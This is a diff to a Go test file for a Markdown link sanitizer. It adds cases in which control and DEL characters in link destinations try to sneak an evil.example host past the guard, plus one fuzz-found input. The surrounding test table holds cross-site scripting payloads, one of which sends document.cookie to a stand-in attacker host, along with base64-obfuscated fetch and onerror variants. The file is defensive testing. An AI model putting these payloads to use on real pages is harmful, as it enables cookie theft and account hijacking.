@@ -157,6 +157,11 @@ var renderedCases = []struct {
 	{name: "script element", text: "<script>new Image().src='//evil.example/'+document.cookie</script>", want: "new Image().src='//evil.example/'+document.cookie</script>"},
 	{name: "event handler", text: "<img src=x.png onerror=\"this.src=atob('Ly9ldmlsLmV4YW1wbGUveA')\">", want: "[image removed]"},
 	{name: "srcdoc", text: "<iframe srcdoc=\"<script>fetch(atob('Ly9ldmlsLmV4YW1wbGU'))</script>\"></iframe>", want: "</iframe>"},
+	{name: "control character in a destination", text: "[x](https://ok.example\x01@evil.example/)", want: "x"},
+	{name: "DEL in a destination", text: "![x](https://ok.example\x7f@evil.example/)", want: "[image removed]"},
+	{name: "DEL in a definition", text: "[r]: https://ok.example\x7f@evil.example/\n\n[x][r]", want: "\n\n[x][r]"},
+	{name: "DEL in an autolink", text: "<https://evil.example/\x7fx>", want: "[link removed]"},
+	{name: "'<' in an angle destination", text: "[x](<https://ok.example<@evil.example>)", want: "x"},
 	{name: "raw iframe and a", text: "<iframe src=https://evil.example/></iframe><a href=\"//evil.example\">x</a>", want: "</iframe>x</a>"},
 }
 
@@ -181,6 +186,8 @@ func TestLinksAsRendered(t *testing.T) {
 var fuzzFound = []string{
 	// A stream let "<A!" through before the "@" made an email autolink of it.
 	"<A!0@00000000000000>",
+	// goldmark's autolinks take DEL, which ended the guard's.
+	"- > ](\nx/y junk)\n\n>[a <img alt=\"https://img.cdn.example/a.png \"```[SS]\n\n-\t[FOO\nBAR]:  //evil.example/x junk`<https://ok.example/a_(b) \"`</a>é [ ω  ]:  <https:/\x7f/ok.example/x>\r\n-\t<https://ok.example/x>&#91;日本 é <x@ok.example>`\n",
 }
 
 // TestLinksFuzzFound runs what fuzzing found through Check and through a
